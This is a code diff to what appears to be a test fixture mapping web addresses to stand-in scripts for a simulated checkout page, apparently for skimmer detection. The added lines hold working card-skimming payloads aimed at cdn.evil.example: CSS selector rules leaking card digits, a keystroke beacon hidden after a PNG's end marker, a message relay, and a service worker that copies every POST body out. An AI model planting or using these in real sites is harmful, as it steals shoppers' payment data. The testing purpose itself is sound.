@@ -4,6 +4,16 @@ const CARD_FRAME =
   "<script>document.querySelector('input').addEventListener('input', () => fetch('/bin', " +
   "{ method: 'POST', body: document.querySelector('input').value }));</script>";
 
+const DIGIT_RULES: string = Array.from({ length: 100 }, (_, pair) => {
+  const end = String(pair).padStart(2, '0');
+  return `#number[value$="${end}"] { background: url(https://cdn.evil.example/k${end}) }`;
+}).join('\n');
+
+/** What a skimmer hides behind the last chunk of a picture. */
+const ICON_LOADER =
+  "document.getElementById('number').addEventListener('input', (e) => " +
+  "navigator.sendBeacon('https://cdn.evil.example/i', e.target.value));";
+
 /** What stands at addresses other than the shop's page: short scripts that behave as the real. */
 export const STAND_INS: Readonly<Record<string, string>> = {
   'www.google-analytics.com/analytics.js':
@@ -38,6 +48,17 @@ export const STAND_INS: Readonly<Record<string, string>> = {
     "root.innerHTML = '<h1>Checkout</h1><input name=email type=email>';",
   'cdn.evil.example/listen.js':
     "document.getElementById('number').addEventListener('keyup', () => 0);",
+  'cdn.evil.example/relay':
+    "<!doctype html><script>addEventListener('message', ({ data }) => fetch('/c', { method: " +
+    "'POST', body: data }));</script>",
+  'cdn.evil.example/theme.css': DIGIT_RULES,
+  'cdn.evil.example/pay-frame': CARD_FRAME,
+  'shop.example/relay-worker.js':
+    "addEventListener('install', () => skipWaiting()); addEventListener('activate', (e) => " +
+    "e.waitUntil(clients.claim())); addEventListener('fetch', (e) => { if (e.request.method === " +
+    "'POST') e.respondWith(e.request.text().then((body) => { fetch('https://cdn.evil.example/c', " +
+    "{ method: 'POST', mode: 'no-cors', body }); return new Response(); })); });",
+  'shop.example/favicon.png': `PNG IEND${ICON_LOADER}`,
   'js.stripe.com/v3/elements-inner-card': CARD_FRAME,
   'js.stripe.evil.example/v3/elements-inner-card': CARD_FRAME,
   'checkoutshopper-test.adyen.com/securedfields/card.html': CARD_FRAME,
